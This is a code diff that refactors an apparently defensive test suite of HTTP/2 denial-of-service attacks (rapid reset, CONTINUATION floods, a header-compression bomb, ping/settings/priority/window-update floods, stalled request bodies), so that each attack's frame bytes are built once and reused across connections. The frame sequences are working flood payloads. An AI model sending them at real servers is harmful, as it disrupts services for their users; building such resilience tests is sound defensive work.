@@ -7,6 +7,17 @@ const one = (name: string, attacker: Omit<Attacker, 'isHttp2'>): Attack => ({
   run: (size) => attack(size, { ...attacker, isHttp2: true }),
 });
 
+/** All connections send the same bytes, which are made at the first. */
+function sends(make: () => Buffer): Pick<Attacker, 'begin'> {
+  let bytes: Buffer | null = null;
+  return {
+    begin: (socket) => {
+      bytes ??= make();
+      socket.write(bytes);
+    },
+  };
+}
+
 const request = (path: string): readonly string[] => [':method', 'GET', ':scheme', 'http', ':path', path, ':authority', 'a'];
 const opening = Buffer.concat([clientPreface, h2Frame(frame.settings, 0, 0)]);
 /** SETTINGS_INITIAL_WINDOW_SIZE of 0: responses may not send a byte. */
@@ -25,48 +36,44 @@ const bomb = Buffer.concat([
 /** Abuse of HTTP/2. */
 export const http2Attacks: readonly Attack[] = [
   one('rapid reset', {
-    begin: (socket) =>
-      socket.write(
-        streams(10_000, (id) =>
-          Buffer.concat([h2Headers(id, request('/'), true), h2Frame(frame.rstStream, 0, id, Buffer.from([0, 0, 0, 8]))]),
-        ),
+    ...sends(() =>
+      streams(10_000, (id) =>
+        Buffer.concat([h2Headers(id, request('/'), true), h2Frame(frame.rstStream, 0, id, Buffer.from([0, 0, 0, 8]))]),
       ),
+    ),
   }),
   one('CONTINUATION without end', {
-    begin: (socket) =>
-      socket.write(
-        Buffer.concat([
-          opening,
-          h2Frame(frame.headers, flag.endStream, 1, Buffer.from([0x82])),
-          ...Array.from({ length: 2000 }, () => h2Frame(frame.continuation, 0, 1, Buffer.from([0x00, 1, 0x78, 1, 0x79]))),
-        ]),
-      ),
+    ...sends(() =>
+      Buffer.concat([
+        opening,
+        h2Frame(frame.headers, flag.endStream, 1, Buffer.from([0x82])),
+        ...Array.from({ length: 2000 }, () => h2Frame(frame.continuation, 0, 1, Buffer.from([0x00, 1, 0x78, 1, 0x79]))),
+      ]),
+    ),
   }),
   one('header blocks that unpack to 48 MB', {
-    begin: (socket) => socket.write(Buffer.concat([opening, h2Frame(frame.headers, 5, 1, bomb)])),
+    ...sends(() => Buffer.concat([opening, h2Frame(frame.headers, 5, 1, bomb)])),
   }),
   one('pings, and no reader', {
     isDeaf: true,
-    begin: (socket) => socket.write(repeated(100_000, h2Frame(frame.ping, 0, 0, Buffer.alloc(8)))),
+    ...sends(() => repeated(100_000, h2Frame(frame.ping, 0, 0, Buffer.alloc(8)))),
   }),
-  one('settings, and no reader', { isDeaf: true, begin: (socket) => socket.write(repeated(100_000, h2Frame(frame.settings, 0, 0))) }),
+  one('settings, and no reader', { isDeaf: true, ...sends(() => repeated(100_000, h2Frame(frame.settings, 0, 0))) }),
   one('empty DATA frames', {
-    begin: (socket) =>
-      socket.write(
-        Buffer.concat([opening, h2Headers(1, request('/'), false), ...Array.from({ length: 20_000 }, () => h2Frame(frame.data, 0, 1))]),
-      ),
+    ...sends(() =>
+      Buffer.concat([opening, h2Headers(1, request('/'), false), ...Array.from({ length: 20_000 }, () => h2Frame(frame.data, 0, 1))]),
+    ),
   }),
-  one('priorities', { begin: (socket) => socket.write(repeated(20_000, h2Frame(frame.priority, 0, 1, Buffer.from([0, 0, 0, 0, 1])))) }),
+  one('priorities', { ...sends(() => repeated(20_000, h2Frame(frame.priority, 0, 1, Buffer.from([0, 0, 0, 0, 1])))) }),
   one('window updates', {
-    begin: (socket) => socket.write(repeated(20_000, h2Frame(frame.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])))),
+    ...sends(() => repeated(20_000, h2Frame(frame.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])))),
   }),
   one('twenty large responses into closed windows', {
-    begin: (socket) =>
-      socket.write(
-        Buffer.concat([closedWindows, ...Array.from({ length: 20 }, (_, index) => h2Headers(2 * index + 1, request('/large'), true))]),
-      ),
+    ...sends(() =>
+      Buffer.concat([closedWindows, ...Array.from({ length: 20 }, (_, index) => h2Headers(2 * index + 1, request('/large'), true))]),
+    ),
   }),
   one('a hundred requests whose bodies never come', {
-    begin: (socket) => socket.write(streams(100, (id) => h2Headers(id, [...request('/')], false))),
+    ...sends(() => streams(100, (id) => h2Headers(id, [...request('/')], false))),
   }),
 ];
